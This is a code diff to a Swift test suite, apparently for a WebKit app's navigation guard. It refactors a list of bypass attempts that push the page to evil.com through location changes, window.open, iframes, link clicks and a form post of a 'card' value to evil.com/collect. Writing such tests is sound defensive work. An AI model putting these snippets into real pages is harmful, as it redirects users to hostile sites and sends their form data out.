@@ -91,7 +91,7 @@ public enum BypassAttempts {
                 script:
                     #"location.href = URL.createObjectURL(new Blob(["<script>location='https://evil.com/'</script>"], { type: "text/html" })); true"#
             ),
-            Attack(name: "a link clicked", script: FrameworkHoles.click("https://evil.com/"), clicksLink: true),
+            Attack(name: "a link clicked", script: click("https://evil.com/"), clicksLink: true),
             Attack(name: "window.open", script: #"window.open("https://evil.com/"); true"#),
             Attack(
                 name: "window.open, then the window navigates",
@@ -99,13 +99,7 @@ public enum BypassAttempts {
                     #"const w = window.open("https://login.example.com/"); setTimeout(() => { w.location.href = "https://evil.com/"; }, 800); true"#
             ),
             Attack(name: "meta refresh", start: "https://example.com/meta-refresh"),
-            Attack(
-                name: "form post",
-                script: """
-                    const form = Object.assign(document.createElement('form'), { method: 'post', action: 'https://evil.com/collect' });
-                    form.appendChild(Object.assign(document.createElement('input'), { name: 'card', value: '4111' }));
-                    document.body.appendChild(form); form.submit(); true
-                    """),
+            Attack(name: "form post", script: formPost("https://evil.com/collect")),
             Attack(name: "redirect chain", script: #"location.href = "https://example.com/hop"; true"#),
             Attack(name: "iframe", script: frame("https://evil.com/frame"), displaysUnderAppBound: true),
             Attack(
@@ -121,6 +115,23 @@ public enum BypassAttempts {
                 name: "control: iframe", script: frame("https://help.example.com/frame"),
                 control: "https://help.example.com/frame"),
         ]
+    }
+
+    /// The page's script setting `location` (WebKit: a navigation of type other).
+    static func location(_ url: String) -> String { #"location.href = "\#(url)"; true"# }
+
+    /// A link the page's script clicks: WebKit reports a link activation, as a tap would.
+    static func click(_ url: String) -> String {
+        #"Object.assign(document.createElement("a"), { href: "\#(url)" }).click(); true"#
+    }
+
+    /// A form the page's script posts (WebKit: a form submission).
+    static func formPost(_ url: String) -> String {
+        """
+        const form = Object.assign(document.createElement('form'), { method: 'post', action: '\(url)' });
+        form.appendChild(Object.assign(document.createElement('input'), { name: 'card', value: '4111' }));
+        document.body.appendChild(form); form.submit(); true
+        """
     }
 
     /// Hosts the certificate covers: every host an attempt could reach, so that an attempt the
